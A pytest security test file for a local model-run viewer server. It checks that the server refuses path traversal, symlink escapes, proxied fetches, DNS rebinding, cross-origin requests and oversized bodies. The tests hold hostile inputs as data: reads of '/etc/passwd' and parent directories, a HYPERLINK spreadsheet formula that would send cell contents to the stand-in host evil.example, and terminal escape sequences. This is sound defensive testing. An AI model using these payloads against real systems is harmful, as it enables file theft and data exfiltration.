"""The viewer's server: it answers its own page under its own names, and serves no other file."""

import http.client
import io
import random
import re
import socket
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from starlette.responses import PlainTextResponse
from starlette.testclient import TestClient

from app import page
from app.catalog import Catalog
from app.page import MAX_BODY_BYTES, MAX_LINE_LENGTH, ShortLines, guarded
from app.votes import VoteStore
from tests.app.folders import make_run, make_scores
from tests.app.visitor import LOCAL, Visitor

EVIL = "http://evil.example"
SECRET = "nobody may read this"


@dataclass(frozen=True)
class Served(Visitor):
    """A viewer in this process: its port and root, and whom the process tried to reach."""

    root: Path
    calls: list[Any]


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """A viewer of one run, in a process whose calls of other machines are written down."""
    root = tmp_path_factory.mktemp("served") / "root"
    make_run(root / "lora")
    make_scores(root / "scores")
    (root.parent / "secret.txt").write_text(SECRET)
    (root / "link").symlink_to(root.parent, target_is_directory=True)
    listener = socket.create_server((LOCAL, 0))
    port = listener.getsockname()[1]
    calls = []
    connect = socket.socket.connect

    def recorded_connect(self, address):
        if address != (LOCAL, port):
            calls.append(address)
            raise ConnectionRefusedError(address)
        connect(self, address)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket.socket, "connect", recorded_connect)
        server = page.server(Catalog(root), host=LOCAL, public=False, device=None)
        thread = threading.Thread(target=server.run, args=([listener],), daemon=True)
        thread.start()
        served = Served(port, root, calls)
        assert served.ask("/").status == 200
        yield served
        server.should_exit = True
        thread.join(20)


def test_it_serves_no_file_tells_no_place_and_asks_nobody(served):
    root = served.root
    files = ["/etc/passwd", f"{root}/link/secret.txt", f"{root}/lora/run.json", "pyproject.toml"]
    files += [f"{root}/../secret.txt", f"{EVIL}/a.png", f"http://{LOCAL}:9/a.png"]
    for route in ("/gradio_api/file=", "/file=", "/static/", "/assets/", "/gradio_api/proxy="):
        for path in files:
            for text in {path, quote(path, safe="")}:
                answer = served.ask(route + text)
                assert 400 <= answer.status < 500, (answer.status, route, text)
                content = answer.read().decode()
                assert SECRET not in content
                assert "schema_version" not in content
    for path in ("/gradio_api/upload", "/gradio_api/component_server", "/gradio_api/call/x"):
        assert served.ask(path, "POST", {"data": [], "fn_index": 0}).status == 403, path
    for path in ("/config", "/"):
        text = served.ask(path).read().decode()
        assert f"{root}/" not in text
        assert f"{Path.home()}/" not in text
    assert served.calls == []


def test_a_vote_is_of_the_voter_who_began(served):
    def click(name, *values, data=None):
        event, _ = served.events(name)[-1]
        return served.send(event, list(values), data)

    event, values = served.events("frame-scores")[-1]
    served.send(event, values)  # fills the list of scores
    # The browser sends the name of its session, which may be anything.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    for token in ("", "made up"):  # of no vote that has begun
        click("vote-left", token, None, formula)
    answer = click("vote-start", "scores", "", formula)
    (token,) = re.findall(r'data-ballot=\\"([0-9a-f]+)', answer)
    click("vote-left", token, {"voter": formula}, formula)
    (vote,) = VoteStore(Catalog(served.root), random.Random()).votes()
    assert re.fullmatch("[0-9a-f]{16}", vote.session)


@pytest.mark.parametrize(
    ("listens_on", "host", "origin", "status"),
    [
        # Names of this machine; another name may be a stranger's that leads here (DNS rebinding).
        (LOCAL, "LOCALHOST:7860", "http://localhost:7860", 200),
        (LOCAL, "[::1]:7860", None, 200),
        (LOCAL, "evil.example", None, 403),
        (LOCAL, "localhost.evil.example", None, 403),
        (LOCAL, "192.168.0.5:7860", None, 403),
        # A page of another origin asks.
        (LOCAL, "localhost:7860", EVIL, 403),
        (LOCAL, "localhost:7860", "http://localhost:7861", 403),
        (LOCAL, "localhost:7860", "null", 403),
        # By --allow_host
        (LOCAL, "Lab.Example:443", "https://lab.example:443", 200),
        # Open to the network: the host's own name and addresses
        ("0.0.0.0", f"{socket.gethostname()}:7860", None, 200),
        ("0.0.0.0", f"{LOCAL}:7860", "http://1.2.3.4:7860", 403),
        ("0.0.0.0", "192.168.0.5:7860", "http://192.168.0.5:7860", 200),
        ("0.0.0.0", "evil.example:7860", None, 403),
        ("0.0.0.0", "evil.example@192.168.0.5", None, 403),
    ],
)
def test_other_names_and_web_sites_are_refused(listens_on, host, origin, status):
    app = guarded(PlainTextResponse("here"), listens_on, listens_on != LOCAL, ["Lab.Example"])
    headers = {"Host": host}
    if origin is not None:
        headers["Origin"] = origin
    for method in ("GET", "OPTIONS", "POST"):
        answer = TestClient(app).request(method, "/config", headers=headers)
        assert answer.status_code == status
        assert not [name for name in answer.headers if "access-control" in name]
        has_policy = "frame-ancestors 'none'" in answer.headers.get("Content-Security-Policy", "")
        is_closed_to_others = answer.headers.get("Cross-Origin-Resource-Policy") == "same-origin"
        assert has_policy == is_closed_to_others == (status == 200)


def test_what_fails_after_its_answer_is_one_line_without_what_was_sent(capsys):
    async def closed_early(scope, receive, send):
        await PlainTextResponse("here")(scope, receive, send)
        raise RuntimeError("a\033[2J" + "long\n" * 1000)

    client = TestClient(guarded(closed_early, LOCAL, public=False))
    assert client.get("/config", headers={"Host": "localhost"}).text == "here"
    (line,) = capsys.readouterr().err.splitlines()
    assert "RuntimeError" in line
    assert line.isprintable()
    assert len(line) < 400


def test_what_a_browser_sent_is_short_and_inert_at_the_terminal():
    terminal = io.StringIO()
    print("Received:", "\033[2J" + "x" * 10**6, "end", sep="\n", file=ShortLines(terminal))
    first_line, long_line, last_line = terminal.getvalue().splitlines()
    assert (first_line, last_line) == ("Received:", "end")
    assert long_line.startswith("?[2Jxxx")
    assert len(long_line) == MAX_LINE_LENGTH


def test_large_and_endless_bodies_are_refused(served):
    path = "/gradio_api/queue/join"
    body = {"fn_index": 1, "session_hash": "large", "data": ["x" * (MAX_BODY_BYTES - 100)]}
    assert served.ask(path, "POST", body).status == 200
    body["data"] *= 2
    assert served.ask(path, "POST", body).status == 413
    # A body in pieces, which does not say its length
    connection = http.client.HTTPConnection(LOCAL, served.port, timeout=30)
    pieces = iter([b"x" * 2**16] * 20)
    connection.request("POST", path, pieces, encode_chunked=True)
    assert connection.getresponse().status == 413
